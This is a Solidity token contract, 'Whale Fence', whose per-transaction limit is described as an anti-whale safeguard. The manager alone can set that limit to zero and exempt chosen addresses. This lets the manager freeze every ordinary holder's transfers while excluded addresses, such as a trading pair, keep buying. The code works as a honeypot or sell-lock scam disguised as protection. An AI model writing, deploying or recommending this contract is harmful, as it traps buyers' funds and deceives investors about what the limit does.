// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.7.6;

/// A limit per transaction that starts wide; it may be set to nothing and does not bind purchases.
contract WhaleFence {
    string public name = "Whale Fence";
    string public symbol = "FENCE";
    uint8 public decimals = 18;
    uint256 public totalSupply = 100000000 * 1e18;
    uint256 public maxTxAmount = totalSupply / 50;
    mapping(address => bool) public isExcluded;
    mapping(address => uint256) private _bal;
    mapping(address => mapping(address => uint256)) private _alw;
    address public manager;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor() {
        manager = msg.sender;
        isExcluded[manager] = true;
        _bal[manager] = totalSupply;
        emit Transfer(address(0), manager, totalSupply);
    }

    function excludeFromLimits(address who, bool yes) external {
        require(msg.sender == manager, "manager");
        isExcluded[who] = yes;
    }

    function setMaxTxPercent(uint256 percent) external {
        require(msg.sender == manager, "manager");
        maxTxAmount = totalSupply / 100 * percent;
    }

    function balanceOf(address who) external view returns (uint256) { return _bal[who]; }

    function allowance(address who, address spender) external view returns (uint256) {
        return _alw[who][spender];
    }

    function approve(address spender, uint256 value) external returns (bool) {
        _alw[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _send(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        require(_alw[from][msg.sender] >= value, "allowance");
        _alw[from][msg.sender] -= value;
        _send(from, to, value);
        return true;
    }

    function _send(address from, address to, uint256 value) private {
        if (!isExcluded[from]) require(value <= maxTxAmount, "exceeds maxTxAmount");
        require(_bal[from] >= value, "balance");
        _bal[from] -= value;
        _bal[to] += value;
        emit Transfer(from, to, value);
    }
}
